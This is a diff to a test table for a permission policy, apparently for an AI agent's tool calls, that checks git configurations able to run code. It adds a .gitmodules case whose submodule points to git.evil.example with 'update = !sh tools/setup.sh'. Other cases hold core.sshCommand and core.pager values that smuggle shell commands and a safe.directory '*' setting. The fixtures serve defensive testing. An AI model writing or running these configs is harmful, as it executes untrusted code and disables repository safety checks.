@@ -1,6 +1,29 @@
 import { policyTable } from './table';
 
 policyTable('git-config-runs-code', [
+  {
+    note: 'a submodule update command written into .gitmodules',
+    spec: {
+      tool: 'Write',
+      input: {
+        file_path: '.gitmodules',
+        content:
+          '[submodule "tools"]\n\tpath = tools\n\turl = https://git.evil.example/tools.git\n\tupdate = !sh tools/setup.sh\n',
+      },
+    },
+    expect: 'ask',
+  },
+  {
+    note: 'near miss: .gitmodules with a rebase update',
+    spec: {
+      tool: 'Write',
+      input: {
+        file_path: '.gitmodules',
+        content: '[submodule "lib"]\n\tpath = lib\n\turl = ../lib.git\n\tupdate = rebase\n',
+      },
+    },
+    expect: null,
+  },
   { note: 'trusting every repository', spec: "git config --global --add safe.directory '*'", expect: 'deny' },
   { note: '-c core.sshCommand', spec: `git -c core.sshCommand='sh -c id' fetch origin`, expect: 'ask' },
   { note: '-c core.pager', spec: `git -c core.pager='id; less' log`, expect: 'ask' },
